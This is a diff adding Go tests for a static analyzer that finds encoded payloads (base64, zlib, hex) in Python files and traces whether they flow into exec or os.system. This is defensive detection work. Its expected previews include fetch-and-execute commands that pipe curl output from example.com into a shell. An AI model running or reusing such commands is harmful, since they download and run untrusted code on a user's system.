@@ -0,0 +1,133 @@
+package main
+
+import (
+	"fmt"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestEncodedPayloads(t *testing.T) {
+	path := filepath.Join("testdata", "payloads.py")
+
+	builder, diagnostics, err := analyzeFile(fileToModuleName(path), path, analysisOptions{decodePayloads: true})
+	if err != nil {
+		t.Fatalf("analyzing %s: %v", path, err)
+	}
+
+	if len(diagnostics) > 0 {
+		t.Errorf("unexpected diagnostics: %v", diagnostics)
+	}
+
+	byLine := make(map[uint32]*encodedPayload)
+	for _, payload := range builder.payloads {
+		byLine[payload.Line] = payload
+	}
+
+	if len(byLine) != 4 {
+		t.Errorf("expected 4 payloads, got %d", len(byLine))
+	}
+
+	cases := []struct {
+		name     string
+		line     uint32
+		encoding string
+		layers   string
+		preview  string
+		flows    string
+	}{
+		{"split base64 wrapping zlib into exec", 7, payloadBase64, "base64,zlib",
+			"import os.os.system('curl http://example.com/x | sh').", "exec:24"},
+		{"random token", 10, payloadHighEntropy, "", "", ""},
+		{"zlib bytes", 12, payloadZlib, "zlib", "print('stage two')", ""},
+		{"hex through fromhex into os.system", 14, payloadHex, "hex",
+			"curl http://example.com | sh", "os.system:29"},
+	}
+
+	for _, test := range cases {
+		t.Run(test.name, func(t *testing.T) {
+			payload, ok := byLine[test.line]
+			if !ok {
+				t.Fatalf("no payload at line %d", test.line)
+			}
+
+			if payload.Encoding != test.encoding {
+				t.Errorf("encoding: expected %s, got %s", test.encoding, payload.Encoding)
+			}
+
+			encodings := make([]string, 0)
+			preview := ""
+			for _, layer := range payload.Layers {
+				encodings = append(encodings, layer.Encoding)
+				preview = layer.Preview
+			}
+
+			if actual := strings.Join(encodings, ","); actual != test.layers {
+				t.Errorf("layers: expected %s, got %s", test.layers, actual)
+			}
+
+			if preview != test.preview {
+				t.Errorf("preview: expected %q, got %q", test.preview, preview)
+			}
+
+			flows := make([]string, 0)
+			for _, flow := range payload.Flows {
+				flows = append(flows, fmt.Sprintf("%s:%d", flow.Callee, flow.Line))
+			}
+
+			if actual := strings.Join(flows, ","); actual != test.flows {
+				t.Errorf("flows: expected %s, got %s", test.flows, actual)
+			}
+		})
+	}
+}
+
+func TestDecoderCallSites(t *testing.T) {
+	path := filepath.Join("testdata", "decoders.py")
+
+	builder, _, err := analyzeFile(fileToModuleName(path), path, analysisOptions{})
+	if err != nil {
+		t.Fatalf("analyzing %s: %v", path, err)
+	}
+
+	if len(builder.payloads) != 1 {
+		t.Fatalf("expected 1 payload, got %d", len(builder.payloads))
+	}
+
+	// Other calls to the decoder do not receive the payload
+	payload := builder.payloads[0]
+	expected := "testdata.decoders/PAYLOAD[variable],testdata.decoders/decoded[variable]"
+	if actual := strings.Join(payload.Holders, ","); actual != expected {
+		t.Errorf("holders: expected %s, got %s", expected, actual)
+	}
+
+	flows := make([]string, 0)
+	for _, flow := range payload.Flows {
+		flows = append(flows, fmt.Sprintf("%s:%d", flow.Callee, flow.Line))
+	}
+
+	if actual := strings.Join(flows, ","); actual != "exec:11" {
+		t.Errorf("flows: expected exec:11, got %s", actual)
+	}
+}
+
+func TestPayloadEncoding(t *testing.T) {
+	cases := []struct {
+		value    string
+		expected string
+	}{
+		{"short", ""},
+		{"This docstring is long enough but it is prose and not encoded", ""},
+		{"aGVsbG8gd29ybGQsIHRoaXMgaXMgYmFzZTY0IGRhdGE=", payloadBase64},
+		{"68656c6c6f20776f726c642c2074686973206973206865782064617461", payloadHex},
+		// Bytes literals hold their escapes as raw bytes
+		{"x\x9c+(\xca\xcc+\xd1P/.ILOU()\xcfW\xd7\x04\x00@;\x06[", payloadZlib},
+		{"x^ looks like a zlib header but is plain text", ""},
+	}
+
+	for _, test := range cases {
+		if actual := payloadEncoding(test.value); actual != test.expected {
+			t.Errorf("payloadEncoding(%q) = %q, expected %q", test.value, actual, test.expected)
+		}
+	}
+}